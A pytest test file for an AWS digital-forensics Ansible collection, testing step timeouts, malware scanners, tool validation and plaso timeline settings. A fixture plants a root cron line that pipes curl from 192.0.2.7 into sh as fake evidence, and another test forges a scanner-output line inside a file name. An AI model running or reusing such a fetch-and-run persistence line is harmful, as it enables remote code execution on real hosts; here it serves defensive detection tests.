# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Steps that fail, hang and crash; a whole analysis; the scanners; the tools' validation."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible_collections.dfir.aws.plugins.module_utils.forensics import (
    analyze,
    changes,
    plaso_run,
    scan,
    steps,
    validate,
)
from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Host, Partition
from ansible_collections.dfir.aws.plugins.module_utils.forensics.tools import ToolError, run

pytestmark = pytest.mark.slow

IMAGE = Path(__file__).resolve().parents[3] / "roles/toolbox/files/image"


def quiet(text: str) -> None:
    pass


def good(say: steps.Say) -> dict[str, Any]:
    say("working")
    return {"entries": 3}


def bad(say: steps.Say) -> dict[str, Any]:
    raise ToolError("fls ended with exit code 1")


def crash(say: steps.Say) -> dict[str, Any]:
    os._exit(7)


def hang(say: steps.Say) -> dict[str, Any]:
    subprocess.run(["sleep", "600"], check=True)
    return {}


def test_one_step_that_fails_hangs_or_crashes_takes_no_other_along() -> None:
    work = [steps.Step("p1", "good", good, 30), steps.Step("p1", "bad", bad, 30), steps.Step("p1", "crash", crash, 30),
            steps.Step("p1", "hang", hang, 0.5), steps.Step("p2", "good", good, 30)]
    said: list[str] = []
    began = time.monotonic()
    outcomes = steps.run_steps(work, said.append)
    assert [outcome.state for outcome in outcomes] == ["done", "failed", "failed", "timeout", "done"]
    assert [outcome.code for outcome in outcomes] == ["", "tool_error", "crashed", "timeout", ""]
    assert time.monotonic() - began < 20
    assert "p1: bad failed" in "\n".join(said) and "fls ended with exit code 1" in "\n".join(said)


def test_a_step_out_of_time_leaves_no_process(tmp_path: Path) -> None:
    def start(say: steps.Say) -> dict[str, Any]:
        with subprocess.Popen(["sleep", "600"]) as process:
            (tmp_path / "pid").write_text(str(process.pid))
        return {}

    steps.run_steps([steps.Step("p1", "hang", start, 1)], quiet)
    stat = Path(f"/proc/{(tmp_path / 'pid').read_text()}/stat")
    deadline = time.monotonic() + 5
    while stat.exists() and stat.read_text().split()[2] != "Z" and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not stat.exists() or stat.read_text().split()[2] == "Z"


def test_told_to_stop_it_keeps_what_is_done_and_closes_its_books(mount: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    def work(settings: analyze.Settings, volume: Evidence, partition: Partition, name: str, workers: int) -> Any:
        if name == "findings":
            return good

        def stop_and_hang(say: steps.Say) -> dict[str, Any]:
            with settings.artifacts.create("unfinished"):
                time.sleep(1)  # the step beside this one is to be done by then
                os.kill(os.getppid(), signal.SIGTERM)
                return hang(say)

        return stop_and_hang

    monkeypatch.setattr(analyze, "_work", work)
    evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),))
    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work",
                                steps=("findings", "timeline", "yara"))
    settings.work.mkdir()
    began = time.monotonic()
    assert analyze.analyze(settings) is False
    assert time.monotonic() - began < 10
    assert json.loads((settings.work / "outcome.json").read_text())["missing"] == ["p1.timeline", "p1.yara"]
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        "analysis.log", "report.json", "sha256sums.txt", "summary.json"]
    assert [words.split(":")[1] for words in json.loads((tmp_path / "out/report.json").read_text())["warnings"]] == [
        " timeline", " yara"]


@pytest.mark.parametrize(("broken", "told"), [((), ()), (("yara", "clamav"), ("clamav", "yara"))])
def test_tools_are_proven_once_more_after_the_work(mount: Path, tmp_path: Path, broken: tuple[str, ...],
                                                   told: tuple[str, ...]) -> None:
    """A tool that breaks while the work goes on: the results are there, and nobody is told that they are complete."""
    def prove() -> dict[str, Any]:
        assert (tmp_path / "out/vol-0123456789abcdef0p1.findings.json").exists(), "the work is not over yet"
        return {"tools": [{"name": name, "ok": name not in broken, "detail": f"{name} says nothing WITNESS"}
                          for name in ("plaso", "yara", "clamav")]}

    evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),))
    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",),
                                prove=prove)
    settings.work.mkdir()
    assert analyze.analyze(settings) is (not broken)
    outcome = json.loads((settings.work / "outcome.json").read_text())
    assert outcome["outcome"] == ("incomplete" if broken else "complete") and outcome["missing"] == []
    summary = json.loads((tmp_path / "out/summary.json").read_text())
    assert summary["validation"] == outcome["validation"]
    assert outcome["validation"]["ran"] is True and outcome["validation"]["failed"] == list(told)
    log = (tmp_path / "out/analysis.log").read_text()
    assert f"{3 - len(broken)} of 3 tools proven once more" in log and log.count("says nothing WITNESS") == len(broken)
    assert ("missing proof of clamav, proof of yara" in log) is bool(broken)
    assert "WITNESS" not in json.dumps(summary) and "analysis.log" in (tmp_path / "out/sha256sums.txt").read_text()


def test_told_to_stop_it_does_not_spend_its_last_seconds_on_proof(mount: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    def stopped(say: steps.Say) -> dict[str, Any]:
        os.kill(os.getppid(), signal.SIGTERM)
        return hang(say)

    monkeypatch.setattr(analyze, "_work", lambda *_unused: stopped)
    settings = analyze.Settings(Host((Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),)),)),
                                Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",),
                                prove=lambda: {"tools": 1 / 0})
    settings.work.mkdir()
    assert analyze.analyze(settings) is False
    assert json.loads((tmp_path / "out/summary.json").read_text())["validation"]["ran"] is False


def test_silence_is_broken_by_progress_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(steps, "HEARTBEAT", 0.2)

    def slow(say: steps.Say) -> dict[str, Any]:
        say("12,345 entries")
        time.sleep(1.5)
        return {}

    said: list[str] = []
    steps.run_steps([steps.Step("p1", "timeline", slow, 30)], said.append)
    assert any(line.startswith("p1: timeline 12,345 entries (") for line in said)


@pytest.fixture
def mount(tmp_path: Path) -> Path:
    mount = tmp_path / "mount"
    (mount / "etc").mkdir(parents=True)
    (mount / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n")
    (mount / "etc/hit").write_bytes((IMAGE / "samples/hit.txt").read_bytes())
    (mount / "etc/link").symlink_to("/etc/hostname")
    return mount


def part(mount: Path | None, number: int = 1, kind: str = "filesystem", device: str = "/dev/null",
         type: str = "ext4") -> Partition:
    return Partition(number, device, type, kind, 1 << 20, mount is not None, str(mount) if mount else None, None, None)


needs_scanners = pytest.mark.skipif(not all(map(shutil.which, ("yara", "clamscan"))),
                                    reason="yara or clamscan is not installed")


@needs_scanners
def test_scanners_report_hits_whatever_the_names(mount: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scan, "SHARE", tmp_path / "share")
    shutil.copytree(IMAGE / "rules", tmp_path / "share/rules")
    hit = (IMAGE / "samples/hit.txt").read_bytes()
    forged = os.fsencode(mount) + b"/etc/x\n" + os.fsencode(mount).replace(b"/", b"_") + b": Fake FOUND\n\xff"
    Path(os.fsdecode(forged)).write_bytes(hit)
    outside = tmp_path / "outside"
    outside.write_bytes(hit)
    (mount / "way-out").symlink_to(outside)
    os.mkfifo(mount / "pipe")
    artifacts = Artifacts(tmp_path / "out")
    yara = scan.scan_yara(part(mount), artifacts, "v", tmp_path / "w", None, quiet)
    clamav = scan.scan_clamav(part(mount), artifacts, "v", tmp_path / "w", quiet)
    assert yara["hits"] == clamav["hits"] == 2
    for kind, key, name in (("yara", "rule", "DFIR_Toolbox_Test_Signature"),
                            ("clamav", "signature", "DFIR_Toolbox_Test_Signature")):
        hits = json.loads((artifacts.folder / f"v.{kind}.json").read_text())["hits"]
        assert {item[key] for item in hits} == {name}
        paths = sorted(item["path"] for item in hits)
        assert paths[0] == "/etc/hit" and paths[1].startswith("/etc/x\\x0a") and paths[1].endswith("\\xff")
        assert all(len(item["sha256"]) == 64 for item in hits)


@needs_scanners
def test_rules_leave_ordinary_programs_alone(tmp_path: Path) -> None:
    rules = sorted((IMAGE / "rules/yara").glob("*.yar"))
    programs = [path for name in ("ps", "ss", "ip", "curl", "python3", "bash", "ssh", "perl")
                if (path := shutil.which(name)) is not None]
    for program in programs:
        assert run(["yara", "-w", *rules, program]) == b""
    assert b"FOUND" not in run(["clamscan", "--no-summary", "--stdout", "-d", IMAGE / "rules/clamav", *programs])


def test_p23_p24_every_partition_is_accounted_for(mount: Path, tmp_path: Path) -> None:
    evidence = Evidence("vol-0123456789abcdef0", "snap-0123456789abcdef0", 1, (
        part(mount, 1), part(None, 2, type="xfs"), part(None, 3, "luks", type="crypto_LUKS"),
        part(None, 4, "swap", type="swap")))
    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
    settings.work.mkdir()
    assert analyze.analyze(settings) is False
    outcome = json.loads((settings.work / "outcome.json").read_text())
    assert outcome["outcome"] == "incomplete" and outcome["missing"] == ["p2.findings"]
    summary = json.loads((tmp_path / "out/summary.json").read_text())
    states = {item["number"]: {name: (step["state"], step.get("code")) for name, step in item["steps"].items()}
              for item in summary["partitions"]}
    assert states == {1: {"findings": ("done", None)}, 2: {"findings": ("failed", "not_mounted")},
                      3: {"all": ("skipped", "luks")}, 4: {"all": ("skipped", "swap")}}
    assert summary["partitions"][0]["findings"]["high"] >= 1


def test_several_snapshots_and_their_journals_are_told_apart(mount: Path, tmp_path: Path) -> None:
    """Two volumes, and a second one of the first on which journals were applied: one partition could be mounted."""
    first, second = "vol-0123456789abcdef0", "vol-0fedcba9876543210"
    host = Host((Evidence(first, "snap-1", 1, (part(mount, 1), part(mount, 2))),
                 Evidence(second, "snap-2", 1, (part(mount, 1),)),
                 Evidence("vol-0aaaaaaaaaaaaaaaa", "snap-1", 1, (part(mount, 1), part(None, 2)), first)),
                ({"kind": "lvm", "id": "x", "lacking": 1},))
    settings = analyze.Settings(host, Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
    settings.work.mkdir()
    assert analyze.analyze(settings) is False
    assert json.loads((settings.work / "outcome.json").read_text())["missing"] == [f"{first}p1.journal.changes"]
    assert sorted(path.name for path in (tmp_path / "out").glob("*.findings.json")) == [
        f"{first}p1.findings.json", f"{first}p1.journal.findings.json", f"{first}p2.findings.json",
        f"{second}p1.findings.json"]
    summary = json.loads((tmp_path / "out/summary.json").read_text())
    steps_of = {item["name"]: {name: step["state"] for name, step in item["steps"].items()}
                for item in summary["partitions"]}
    assert steps_of == {f"{first}p1": {"findings": "done"}, f"{first}p2": {"findings": "done"},
                        f"{second}p1": {"findings": "done"},
                        f"{first}p1.journal": {"findings": "done", "changes": "failed"},
                        f"{first}p2.journal": {"all": "skipped"}}
    assert summary["sets"] == [{"kind": "lvm", "id": "x", "lacking": 1}]
    once = json.loads((tmp_path / "out" / f"{second}p1.findings.json").read_text())
    assert summary["totals"]["findings"] == 3 * len(once), "what the journal's volume shows is not counted twice"


def bodyfile(*lines: str) -> bytes:
    return "".join(f"0|{line}|0\n" for line in lines).encode()


def test_what_only_the_journal_knows_is_listed_and_counted(mount: Path, tmp_path: Path) -> None:
    out = Artifacts(tmp_path / "out")
    old, new = "vol-0123456789abcdef0p1", "vol-0123456789abcdef0p1.journal"
    before = ("/same|5|r/rrw-r--r--|0|0|3|100|100|100", "/grown|6|r/rrw-r--r--|0|0|3|100|100|100",
              "/removed|7|r/rrw-r--r--|0|0|3|100|100|100", "/old (deleted)|8|r/rrw-r--r--|0|0|3|100|100|100")
    after = ("/same|5|r/rrw-r--r--|0|0|3|999|100|100", "/grown|6|r/rrw-r--r--|0|0|9|100|101|101",
             "/odd|name|9|r/rrw-r--r--|0|0|3|100|100|100", "/removed (deleted)|7|r/rrw-r--r--|0|0|0|100|100|101")
    for stem, lines, found in ((old, before, ["a"]), (new, after, ["a", "b"])):
        with out.create(f"{stem}.bodyfile") as stream:
            stream.write(bodyfile(*lines))
        out.write_json(f"{stem}.findings.json", [{"id": name, "kind": "login"} for name in found])
    host = Host((Evidence("vol-0123456789abcdef0", "snap-1", 1, (part(mount),)),
                 Evidence("vol-0aaaaaaaaaaaaaaaa", "snap-1", 1, (part(mount),), "vol-0123456789abcdef0")))
    [outcome] = changes.compare(host, out, quiet)
    assert (outcome.partition, outcome.name, outcome.state) == ("p1.journal", "changes", "done")
    assert outcome.counts == {"new": 1, "changed": 1, "gone": 1, "findings": 1}
    report = json.loads((out.folder / f"{new}.changes.json").read_text())
    assert {kind: [item["path"] for item in report[kind]] for kind in ("new", "changed", "gone")} == {
        "new": ["/odd|name"], "changed": ["/grown"], "gone": ["/removed"]}
    assert [item["id"] for item in report["findings"]] == ["b"] and report["counts"] == outcome.counts


def test_summary_holds_nothing_from_the_evidence(mount: Path, tmp_path: Path) -> None:
    (mount / "etc/cron.d").mkdir()
    (mount / "etc/cron.d/WITNESSNAME").write_text("* * * * * root curl http://192.0.2.7/WITNESSLINE | sh\n")
    evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount, type="WITNESSTYPE"),))
    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work",
                                steps=("findings", "timeline"))
    settings.work.mkdir()
    analyze.analyze(settings)
    assert "WITNESSNAME" in (tmp_path / "out/vol-0123456789abcdef0p1.findings.json").read_text()
    assert "WITNESS" not in (tmp_path / "out/summary.json").read_text()
    assert "WITNESS" not in (settings.work / "outcome.json").read_text()


def test_findings_are_uploaded_even_when_a_finder_breaks(mount: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from ansible_collections.dfir.aws.plugins.module_utils.forensics import findings

    def broken(_scene: Any) -> Any:
        raise RuntimeError("broken on purpose")

    monkeypatch.setattr(findings, "FINDERS", [(name, broken if name == "web" else finder)
                                              for name, finder in findings.FINDERS])
    with pytest.raises(steps.StepError, match="web"):
        findings.find_all(part(mount), Artifacts(tmp_path / "out"), "v", tmp_path, quiet)
    kinds = {item["kind"] for item in json.loads((tmp_path / "out/v.findings.json").read_text())}
    assert "account" in kinds


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not all(map(shutil.which, ("mke2fs", "debugfs", "mkfs.xfs"))):
        pytest.skip("e2fsprogs or xfsprogs is not installed")
    target = tmp_path_factory.mktemp("samples")
    subprocess.run(["sh", IMAGE / "make-samples.sh", IMAGE / "samples", target], check=True, capture_output=True)
    return target


NEEDS = {"sleuthkit": "fls", "yara": "yara", "clamav": "clamscan", "ewf-tools": "ewfacquirestream",
         "plaso": "log2timeline", "dissect": "", "boto3": ""}


@pytest.mark.parametrize("tool", sorted(validate.CHECKS))
def test_validation_runs_each_tool(tool: str, samples: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate, "SAMPLES", samples)
    monkeypatch.setattr(validate, "RULES", IMAGE / "rules")
    if NEEDS[tool] and not shutil.which(NEEDS[tool]):
        pytest.skip(f"{NEEDS[tool]} is not installed")
    if tool == "dissect":
        pytest.importorskip("dissect.xfs", reason="dissect is not installed")
    result = validate.check(tool)
    assert result["ok"], result
    assert result["version"] != "unknown"


@pytest.mark.parametrize("tool", ["sleuthkit", "yara", "clamav"])
def test_validation_fails_when_a_tool_says_something_else(tool: str, samples: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate, "SAMPLES", samples)
    monkeypatch.setattr(validate, "RULES", IMAGE / "rules")
    fake = tmp_path / {"sleuthkit": "fls", "yara": "yara", "clamav": "clamscan"}[tool]
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    result = validate.check(tool)
    assert not result["ok"]


@pytest.mark.parametrize(("kind", "size", "preset", "scope", "expected"), [
    ("ext4", 1 << 40, "auto", "filtered", ("linux", "filter_linux.yaml")),
    ("ntfs", 1 << 40, "auto", "filtered", ("win7", "filter_windows.yaml")),
    ("ntfs", 1 << 40, "linux", "filtered", ("linux", "filter_windows.yaml")),
    ("ntfs", 1 << 40, "auto", "full", ("win7", None)), ("vfat", 1 << 28, "auto", "filtered", ("linux", None)),
    ("vfat", 1 << 40, "auto", "filtered", ("linux", "filter_linux.yaml"))])
def test_plaso_reads_windows_as_windows(kind: str, size: int, preset: str, scope: str,
                                        expected: tuple[str, str | None]) -> None:
    """The preset for Linux found not one event on NTFS: neither event logs nor registry are in it."""
    partition = Partition(1, "/dev/null", kind, "filesystem", size, False, None, None, None)
    chosen, paths = plaso_run.choose(partition, preset, scope)
    assert (chosen, paths.name if paths else None) == expected
    assert paths is None or (IMAGE / "plaso" / paths.name).is_file()


FAKE_PLASO = """#!/bin/sh
echo "$@" >> {calls}
while [ $# -gt 1 ]; do
  case $1 in --storage_file) store=$2;; --logfile) log=$2;; --single_process) single=1;; esac
  shift
done
sqlite() {{ {python} -c "import sqlite3, sys; d = sqlite3.connect(sys.argv[1]); d.execute('CREATE TABLE event (i)'); \
[d.execute('INSERT INTO event VALUES (1)') for _ in range(int(sys.argv[2]))]; d.commit()" "$@"; }}
[ -n "$single" ] && {{ sqlite "$store" 5; echo fine | gzip > "$log"; exit {single_code}; }}
sqlite "$store" 0
echo "[ERROR] <extraction_engine> Unable to create worker process: 0" | gzip > "$log"
exit 0
"""


@pytest.mark.parametrize("single_code", [0, 1])
def test_plaso_that_lost_its_workers_is_no_success(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   single_code: int) -> None:
    """Seen on a busy host: no event, exit code 0. A script stands in for plaso, which does not do it at will."""
    fake = tmp_path / "log2timeline"
    fake.write_text(FAKE_PLASO.format(calls=tmp_path / "calls", python=sys.executable, single_code=single_code))
    fake.chmod(0o755)
    monkeypatch.setattr(plaso_run, "script", lambda name: str(fake))
    artifacts, partition = Artifacts(tmp_path / "out"), part(None, device="/dev/null", type="ext4")

    def go() -> dict[str, Any]:
        return plaso_run.run_plaso(partition, artifacts, "v", tmp_path / "w", preset="auto", scope="filtered",
                                   workers=2, say=quiet)

    if single_code:
        with pytest.raises(ToolError, match="exit code 1"):
            go()
    else:
        assert go() == {"preset": "linux", "events": 5, "sources": 0, "warnings": 0}
    calls = (tmp_path / "calls").read_text().splitlines()
    assert ["--workers 2" in call for call in calls] == [True, False]
    activity = (artifacts.folder / "v.activity").read_text()
    assert activity.count("command: ") == 2 and "Unable to create worker process" in activity


WINDOWS_PATHS = (
    "/$Extend/$UsnJrnl", "/Windows/System32/winevt/Logs/Security.evtx", "/Windows/System32/config/SOFTWARE",
    "/windows/prefetch/X.pf", "/Users/a/NTUSER.DAT", "/Users/a/AppData/Local/Microsoft/Windows/UsrClass.dat",
    "/Users/a/AppData/Roaming/Microsoft/Windows/Recent/a.lnk", "/inetpub/logs/LogFiles/W3SVC1/u_ex.log",
    "/ProgramData/ssh/logs/sshd.log", "/Windows/System32/Tasks/x", "/$Recycle.Bin/S-1-5/$I1",
    "/Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt")
LINUX_PATHS = (
    "/var/log/auth.log", "/var/log/nginx/access.log", "/etc/cron.d/x", "/root/.bash_history",
    "/home/a/.bash_history", "/var/tmp/.x/y", "/logs/app/a.log", "/var/log/journal/id/system.journal",
    "/var/spool/cron/crontabs/a", "/etc/systemd/system/x.service", "/var/www/.bash_history", "/tmp/x")


@pytest.mark.parametrize(("name", "paths"), [("linux", LINUX_PATHS), ("windows", WINDOWS_PATHS)])
def test_plaso_filter_lines_do_not_overlap(name: str, paths: tuple[str, ...]) -> None:
    """Each part between slashes is an expression of its own; what two lines match, plaso reads twice."""
    lines = yaml.safe_load((IMAGE / f"plaso/filter_{name}.yaml").read_text())["paths"]

    def matches(line: str, path: str) -> bool:
        parts, names = line.split("/")[1:], path.split("/")[1:]
        return len(parts) <= len(names) and all(re.fullmatch(part, name, re.IGNORECASE)
                                                for part, name in zip(parts, names, strict=False))

    for path in paths:
        assert sum(matches(line, path) for line in lines) == 1, path
